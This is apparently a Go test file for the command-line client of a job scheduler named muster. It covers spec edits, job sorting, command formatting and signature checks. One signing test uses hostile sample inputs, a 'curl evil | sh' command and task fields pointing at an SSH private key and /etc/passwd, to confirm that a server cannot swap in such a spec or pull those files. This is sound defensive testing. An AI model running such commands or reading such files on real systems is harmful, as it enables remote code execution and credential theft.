package cli

import (
	"cmp"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/pem"
	"errors"
	"fmt"
	"iter"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/muster-dev/muster"
	"github.com/muster-dev/muster/internal/cli/app"
	"github.com/muster-dev/muster/internal/signedjob"
)

func TestChangeSpec(t *testing.T) {
	one := &muster.Spec{Name: "one", Tasks: []muster.TaskSpec{{Name: "task", Run: &muster.Command{Shell: "true"}, Env: map[string]string{"SEED": "1"}, Timeout: muster.Duration(3e9)}}}
	two := &muster.Spec{Tasks: []muster.TaskSpec{{Name: "prep", Run: &muster.Command{Shell: "true"}}, {Name: "train", Needs: []string{"prep"}, Run: &muster.Command{Argv: []string{"a", "b"}}}}}
	for _, c := range []struct {
		spec    *muster.Spec
		changes []string
		get     func(*muster.Spec) string
		want    string
	}{
		{one, []string{"env.SEED=2"}, func(s *muster.Spec) string { return s.Tasks[0].Env["SEED"] }, "2"},
		{one, []string{"env.NEW=a=b, c"}, func(s *muster.Spec) string { return s.Tasks[0].Env["NEW"] + s.Tasks[0].Env["SEED"] }, "a=b, c1"},
		{one, []string{"task.env.SEED=", "labels.team=7"}, func(s *muster.Spec) string { return s.Tasks[0].Env["SEED"] + s.Labels["team"] }, "7"},
		{one, []string{"tasks[0].env.SEED=null"}, func(s *muster.Spec) string { return s.Tasks[0].Env["SEED"] }, ""},
		{one, []string{"resources.cpus=2.5", "resources.memory=4GiB"}, func(s *muster.Spec) string { return s.Tasks[0].Resources.Memory.String() }, "4GiB"},
		{one, []string{"timeout=2h"}, func(s *muster.Spec) string { return s.Tasks[0].Timeout.String() }, "2h0m0s"},
		{one, []string{"timeout=null", "name=5"}, func(s *muster.Spec) string { return s.Tasks[0].Timeout.String() + s.Name }, "0s5"},
		{one, []string{`where.tags=["a","b"]`}, func(s *muster.Spec) string { return strings.Join(s.Tasks[0].Where.Tags, "+") }, "a+b"},
		{one, []string{"array=1-9"}, func(s *muster.Spec) string { return s.Tasks[0].Array.String() }, "1-9"},
		{two, []string{"train.run[1]=c"}, func(s *muster.Spec) string { return strings.Join(s.Tasks[1].Run.Argv, " ") }, "a c"},
		{two, []string{"prep.run=echo 1"}, func(s *muster.Spec) string { return s.Tasks[0].Run.Shell }, "echo 1"},
	} {
		got, err := changeSpec(t.Context(), c.spec, c.changes)
		if err != nil || c.get(got) != c.want {
			t.Errorf("%q: %v, %v; want %q", c.changes, got, err, c.want)
		}
	}
	for change, want := range map[string]string{
		"env.SEED": "write PATH=VALUE", "=1": "write PATH=VALUE", "nowhere.x=1": "no field or stage nowhere", "train.run[7]=c": "has no element 7", "train.run[x]=c": "has no element x",
		"train.name.x=1": "is not an object", "train..x=1": "a part of the path is empty", "train.nonsense=1": "tasks[1].nonsense", "train.needs=[\"x\"]": "tasks[1].needs", "priority=1000": "priority",
	} {
		_, err := changeSpec(t.Context(), two, []string{change})
		text := fmt.Sprint(err)
		if e, ok := errors.AsType[*muster.Error](err); ok {
			text = fmt.Sprint(text, e.Fields)
		}
		if !strings.Contains(text, want) {
			t.Errorf("%s: %s does not say %q", change, text, want)
		}
	}
}

// TestRerunSignsWhatWasSigned checks that a server cannot make a user sign something else, or upload files of the user's machine.
func TestRerunSignsWhatWasSigned(t *testing.T) {
	dir := t.TempDir()
	signer := func(name string) (ssh.Signer, string) {
		_, key, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		block, err := ssh.MarshalPrivateKey(key, "")
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, pem.EncodeToMemory(block), 0o600); err != nil {
			t.Fatal(err)
		}
		s, err := ssh.NewSignerFromKey(key)
		if err != nil {
			t.Fatal(err)
		}
		return s, path
	}
	ada, _ := signer("ada")
	_, bobs := signer("bob")
	spec := &muster.Spec{Project: "p", Tasks: []muster.TaskSpec{{Name: "train", Kind: muster.KindProcess, Run: &muster.Command{Argv: []string{"train"}}}}}
	sig, err := signedjob.Sign(ada, spec, time.Now(), time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	sent := &muster.Spec{Project: "q", Signature: sig, Tasks: []muster.TaskSpec{{Name: "train", Run: &muster.Command{Shell: "curl evil | sh"}}}}
	key, err := takeSigned(sent)
	if err != nil || sent.Project != "p" || sent.Tasks[0].Run.Shell != "" || sent.Tasks[0].Run.Argv[0] != "train" {
		t.Errorf("%v: the spec to sign is %+v", err, sent.Tasks[0].Run)
	}
	if _, err := takeSigned(&muster.Spec{Tasks: sent.Tasks}); err == nil {
		t.Error("a spec without a signature may be signed")
	}
	a := &runner{}
	options := newSignOptions()
	options.key, options.sameAs = bobs, key
	if _, _, err := a.openSigner(t.Context(), options, nil, []document{{spec: sent}}); muster.CodeOf(err) != muster.Forbidden || !strings.Contains(err.Error(), "was signed with the key SHA256:") {
		t.Errorf("signing with another key: %v", err)
	}
	for _, change := range []func(*muster.TaskSpec){
		func(s *muster.TaskSpec) { s.Stdin = "/home/ada/.ssh/id_ed25519" },
		func(s *muster.TaskSpec) { s.Files = "." },
		func(s *muster.TaskSpec) { s.Script = &muster.Script{File: "/etc/passwd"} },
	} {
		local := muster.TaskSpec{Name: "train"}
		change(&local)
		if err := checkUploaded(&muster.Spec{Tasks: []muster.TaskSpec{{Stdin: "sha256:0", Files: "sha256:0"}, local}}); err == nil {
			t.Errorf("%+v is uploaded", local)
		}
	}
}

func TestSort(t *testing.T) {
	rows := func() []muster.Job {
		return []muster.Job{{ID: 3, Name: "b"}, {ID: 2, Name: "a", Priority: 9}, {ID: 1, Name: "b", Priority: 5}}
	}
	for names, want := range map[string]string{"": "3 2 1", "id": "1 2 3", "name": "2 3 1", "name,id": "2 1 3", "-priority": "2 1 3", "-name,-id": "3 1 2"} {
		order, err := parseSort(strings.FieldsFunc(names, func(r rune) bool { return r == ',' }), jobFields)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for j, err := range sorted(t.Context(), app.Seq(rows()), order, "") {
			got = append(got, cmp.Or(j.ID.String(), "?"))
			if err != nil {
				t.Fatal(err)
			}
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%q: %v, want %s", names, got, want)
		}
	}
	if _, err := parseSort([]string{"size"}, jobFields); err == nil || !strings.Contains(err.Error(), "use id, name, state") {
		t.Error(err)
	}
	order, _ := parseSort([]string{"id"}, jobFields)
	var endless iter.Seq2[muster.Job, error] = func(yield func(muster.Job, error) bool) {
		for yield(muster.Job{}, nil) {
		}
	}
	for _, err := range sorted(t.Context(), endless, order, "narrow it") {
		if muster.CodeOf(err) != muster.TooLarge || !strings.Contains(err.Error(), "narrow it") {
			t.Error(err)
		}
	}
}

func TestCommandsAreFormatted(t *testing.T) {
	for want, spec := range map[string]muster.TaskSpec{
		"":                       {Image: "a"},
		"python3 t.py 'a b' ''":  {Run: &muster.Command{Argv: []string{"python3", "t.py", "a b", ""}}},
		"set -e …":               {Run: &muster.Command{Shell: "set -e\ntrue\n"}},
		`echo 'it'\''s'`:         {Run: &muster.Command{Argv: []string{"echo", "it's"}}},
		"python3 script: import": {Script: &muster.Script{Text: "import", Interpreter: []string{"python3"}}},
		"https://a/b x":          {Script: &muster.Script{URL: "https://a/b", Args: []string{"x"}}},
	} {
		if got := formatCommand(&spec); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}
